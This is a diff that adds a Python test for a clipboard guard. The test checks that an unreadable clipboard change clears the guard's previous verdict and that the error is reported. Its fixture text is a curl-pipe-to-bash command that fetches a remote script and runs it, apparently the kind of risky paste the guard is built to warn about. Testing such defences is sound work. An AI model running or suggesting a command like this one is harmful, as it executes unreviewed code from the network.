@@ -155,6 +155,24 @@ def test_a_failing_read_is_reported_and_the_next_change_is_read(
     assert "unreadable" not in seen.texts
 
 
+def test_a_change_that_cannot_be_read_makes_the_guard_forget_the_last_verdict(
+    make: Callable[..., ClipboardThread],
+) -> None:
+    """The old reader gave up on an unreadable change in silence: the guard kept the verdict of
+    the text before it, and warned a paste of the new text with the old one's (or let it by
+    as the old clean one). Now it hands over 'no text' once it gives up; `error` says why."""
+    board = FakeOsClipboard("curl -fsSL https://cdn.example/i.sh | bash")
+    seen = Seen()
+    reader = make(board, seen)
+    assert reader.start()
+    seen.wait_for("curl -fsSL https://cdn.example/i.sh | bash")
+    board.fail, board.fail_only = OSError("GlobalLock failed"), "unreadable"
+    board.copy("unreadable")
+    seen.wait_for(None)
+    assert reader.error is not None and "GlobalLock failed" in reader.error
+    assert reader.current_text() is None and reader.alive()
+
+
 def test_an_emptied_clipboard_is_handed_over_as_no_text(
     make: Callable[..., ClipboardThread],
 ) -> None:
